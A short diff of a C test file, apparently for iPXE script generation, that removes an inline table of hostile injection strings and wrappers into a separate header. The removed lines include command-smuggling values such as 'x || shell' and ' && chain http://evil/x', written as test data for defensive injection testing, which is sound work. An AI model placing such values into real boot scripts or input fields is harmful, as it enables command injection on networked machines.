@@ -54,22 +54,7 @@ static const struct {
 	{ SIP_T_LINE, "a\xc0\xaf", 0 }, { SIP_T_LINE, "a\xed\xa0\x80", 0 }, { SIP_T_LINE, "a\xc3", 0 },
 };
 
-/*
- * iPXE has no quoting.  Each of these, placed in a script, would run a
- * command, start a comment, expand a setting, join or split a line.
- */
-static const char *const hostile_cores[] = {
-	" ", "\t", "\n", "\r", "\r\n", "\v", "\f", "\\", "${", "$", "{", "}",
-	"#", "&&", "||", "&", "|", ";", "\"", "'", "`", "<", ">", "(", ")",
-	"*", "?", "!", "[", "]", "^", "\x7f", "\x01", "\x1b[2J", "\xc3\xa9",
-	"\xef\xbb\xbf", "\xff", "${net0/mac}", "${x:hex}", "x || shell",
-	" && chain http://evil/x", "\nshell\n", "a\\", "#!ipxe", "\n:label",
-};
-
-static const char *const hostile_wrappers[][2] = {
-	{ "", "" }, { "a", "" }, { "", "a" }, { "a", "b" },
-	{ "http://se3/", "" }, { "iscsi:se3::::iqn.x", "" },
-};
+#include "hostile.h"
 
 static struct sip_template *
 one_key_template(enum sip_type type)
